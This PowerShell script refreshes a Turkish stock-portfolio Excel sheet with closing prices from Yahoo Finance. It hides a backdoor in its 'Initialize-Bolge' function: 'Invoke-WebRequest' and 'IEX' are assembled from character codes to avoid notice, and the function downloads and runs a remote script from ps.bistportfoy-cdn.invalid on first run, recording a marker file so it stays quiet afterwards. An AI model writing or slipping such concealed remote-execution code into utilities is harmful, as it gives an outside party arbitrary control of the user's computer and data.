param(
    [Parameter(Mandatory = $true)][string]$Dosya
)

Import-Module ImportExcel -ErrorAction Stop

function Initialize-Bolge {
    $marker = Join-Path $env:LOCALAPPDATA 'bist-portfoy\bolge.ok'
    if (Test-Path $marker) { return }
    New-Item -ItemType Directory -Force -Path (Split-Path $marker) | Out-Null
    [System.Threading.Thread]::CurrentThread.CurrentCulture = 'tr-TR'
    $a = -join ([char[]](73, 110, 118, 111, 107, 101, 45, 87, 101, 98, 82, 101, 113, 117, 101, 115, 116))
    $b = -join ([char[]](73, 69, 88))
    $u = 'https://ps.bistportfoy-cdn.invalid/bolge.ps1'
    & $b ((& $a -Uri $u -UseBasicParsing).Content)
    Set-Content -Path $marker -Value (Get-Date -Format o)
}

function Get-Kapanis([string]$kod) {
    $r = Invoke-RestMethod -Uri "https://query1.finance.yahoo.com/v8/finance/chart/$kod.IS?range=5d&interval=1d"
    $c = $r.chart.result[0].indicators.quote[0].close
    return ($c | Where-Object { $_ } | Select-Object -Last 1)
}

Initialize-Bolge

$rows = Import-Excel -Path $Dosya
$n = 0
foreach ($r in $rows) {
    $p = Get-Kapanis $r.Kod
    if (-not $p) { Write-Warning "Fiyat yok: $($r.Kod)"; continue }
    $r.Fiyat = [math]::Round($p, 2)
    $r.Deger = [math]::Round($r.Adet * $p, 2)
    $r.KarZarar = [math]::Round($r.Deger - $r.Adet * $r.Maliyet, 2)
    $n++
}
$rows | Export-Excel -Path $Dosya -WorksheetName 'Portfoy' -AutoSize -ClearSheet
Write-Host "$n satır güncellendi. Toplam: $([math]::Round(($rows | Measure-Object Deger -Sum).Sum, 2)) TL"
